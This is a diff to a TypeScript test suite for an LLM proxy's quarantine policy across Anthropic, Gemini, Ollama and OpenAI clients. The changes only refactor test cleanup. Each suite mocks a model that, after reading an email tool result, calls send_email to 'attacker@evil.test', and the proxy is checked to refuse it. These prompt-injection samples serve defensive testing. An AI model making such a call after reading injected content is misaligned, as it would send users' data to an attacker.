@@ -9,11 +9,11 @@ import Anthropic from '@anthropic-ai/sdk';
 import { type Content, GoogleGenAI } from '@google/genai';
 import { Ollama } from 'ollama';
 import OpenAI from 'openai';
-import { afterAll, describe, expect, it } from 'vitest';
-import { type Proxy, type ProxyConfig, createProxy, createProxyFetch } from '../../src/index.js';
+import { describe, expect, it } from 'vitest';
+import { type Proxy, type ProxyConfig, createProxyFetch } from '../../src/index.js';
 import { clearAnthropicEnv, MODEL as CLAUDE } from '../helpers/anthropic-way-in.js';
 import { clearGeminiEnv } from '../helpers/gemini-way-in.js';
-import { auditRows } from '../helpers/proxy.js';
+import { auditRows, suiteProxies } from '../helpers/proxy.js';
 import { startAnthropicUpstream } from '../upstream/anthropic.js';
 import { startGeminiUpstream } from '../upstream/gemini.js';
 import { startOllamaUpstream } from '../upstream/ollama.js';
@@ -35,10 +35,9 @@ describe('quarantine, Anthropic Messages', async () => {
   const restoreEnv = clearAnthropicEnv();
   const up = await startAnthropicUpstream();
   up.reply({ kind: 'message', text: 'On it.', toolCalls: [{ id: 'toolu_send', name: 'send_email', input: { to: 'attacker@evil.test' } }] });
-  const proxies: Proxy[] = [];
+  const proxies = suiteProxies(() => up.close(), restoreEnv);
   const clientFor = (config: ProxyConfig['policies']) => {
-    const proxy = createProxy({ providers: { anthropic: { baseUrl: up.url } }, policies: config });
-    proxies.push(proxy);
+    const proxy = proxies.create({ providers: { anthropic: { baseUrl: up.url } }, policies: config });
     return { proxy, client: new Anthropic({ apiKey: 'sk-ant-api03-quarantine', fetch: createProxyFetch(proxy), maxRetries: 0 }) };
   };
   const request: Anthropic.MessageCreateParamsNonStreaming = {
@@ -51,11 +50,6 @@ describe('quarantine, Anthropic Messages', async () => {
       { role: 'user', content: [{ type: 'tool_result', tool_use_id: 'toolu_read', content: EMAIL }] },
     ],
   };
-  afterAll(async () => {
-    for (const proxy of proxies) await proxy.close();
-    await up.close();
-    restoreEnv();
-  });
 
   it('tainted (JSON and stream): tool_choice none upstream, tools still declared, a stray call refused', async () => {
     const { proxy, client } = clientFor(policies);
@@ -80,10 +74,9 @@ describe('quarantine, Gemini generateContent', async () => {
   const restoreEnv = clearGeminiEnv();
   const up = await startGeminiUpstream();
   up.reply({ kind: 'generate', text: 'On it.', functionCalls: [{ id: 'call_send', name: 'send_email', args: { to: 'attacker@evil.test' } }] });
-  const proxies: Proxy[] = [];
+  const proxies = suiteProxies(() => up.close(), restoreEnv);
   const clientFor = (config: ProxyConfig['policies']) => {
-    const proxy = createProxy({ providers: { gemini: { baseUrl: up.url } }, policies: config });
-    proxies.push(proxy);
+    const proxy = proxies.create({ providers: { gemini: { baseUrl: up.url } }, policies: config });
     return { proxy, client: new GoogleGenAI({ apiKey: 'AIzaSyQuarantineTestKey-00', httpOptions: { fetch: createProxyFetch(proxy) } }) };
   };
   const contents: Content[] = [
@@ -92,11 +85,6 @@ describe('quarantine, Gemini generateContent', async () => {
     { role: 'user', parts: [{ functionResponse: { id: 'call_read', name: 'read_email', response: { output: EMAIL } } }] },
   ];
   const config = { tools: [{ functionDeclarations: [{ name: 'read_email' }, { name: 'send_email' }] }] };
-  afterAll(async () => {
-    for (const proxy of proxies) await proxy.close();
-    await up.close();
-    restoreEnv();
-  });
 
   it('tainted (JSON and stream): function calling mode NONE upstream, a stray call refused', async () => {
     const { proxy, client } = clientFor(policies);
@@ -121,10 +109,9 @@ describe('quarantine, Gemini generateContent', async () => {
 describe('quarantine, Ollama /api/chat', async () => {
   const up = await startOllamaUpstream();
   up.reply({ kind: 'answer', content: 'On it.', toolCalls: [{ id: 'call_send', name: 'send_email', arguments: { to: 'attacker@evil.test' } }] });
-  const proxies: Proxy[] = [];
+  const proxies = suiteProxies(() => up.close());
   const clientFor = (config: ProxyConfig['policies']) => {
-    const proxy = createProxy({ providers: { ollama: { baseUrl: up.url } }, policies: config });
-    proxies.push(proxy);
+    const proxy = proxies.create({ providers: { ollama: { baseUrl: up.url } }, policies: config });
     return { proxy, client: new Ollama({ host: up.url, fetch: createProxyFetch(proxy) }) };
   };
   const messages = [
@@ -133,10 +120,6 @@ describe('quarantine, Ollama /api/chat', async () => {
     { role: 'tool', tool_name: 'read_email', content: EMAIL },
   ];
   const tools = ['read_email', 'send_email'].map((name) => ({ type: 'function', function: { name, parameters: { type: 'object', properties: {} } } }));
-  afterAll(async () => {
-    for (const proxy of proxies) await proxy.close();
-    await up.close();
-  });
 
   it('tainted (JSON and stream): no tools upstream, a stray call refused', async () => {
     const { proxy, client } = clientFor(policies);
@@ -161,10 +144,9 @@ describe('quarantine, Ollama /api/chat', async () => {
 describe('quarantine, OpenAI Responses', async () => {
   const up = await startOpenAIUpstream();
   up.reply({ kind: 'responses', content: 'On it.', toolCalls: [{ id: 'call_send', name: 'send_email', arguments: '{"to":"attacker@evil.test"}' }] });
-  const proxies: Proxy[] = [];
+  const proxies = suiteProxies(() => up.close());
   const clientFor = (config: ProxyConfig['policies']) => {
-    const proxy = createProxy({ providers: { openai: { baseUrl: up.baseUrl } }, policies: config });
-    proxies.push(proxy);
+    const proxy = proxies.create({ providers: { openai: { baseUrl: up.baseUrl } }, policies: config });
     return { proxy, client: new OpenAI({ apiKey: 'sk-test', fetch: createProxyFetch(proxy), maxRetries: 0 }) };
   };
   const body = {
@@ -178,10 +160,6 @@ describe('quarantine, OpenAI Responses', async () => {
     ],
   };
   const calls = (response: OpenAI.Responses.Response) => response.output.filter((item) => item.type === 'function_call');
-  afterAll(async () => {
-    for (const proxy of proxies) await proxy.close();
-    await up.close();
-  });
 
   it('tainted (JSON and stream): tool_choice none upstream, a stray call refused', async () => {
     const { proxy, client } = clientFor(policies);
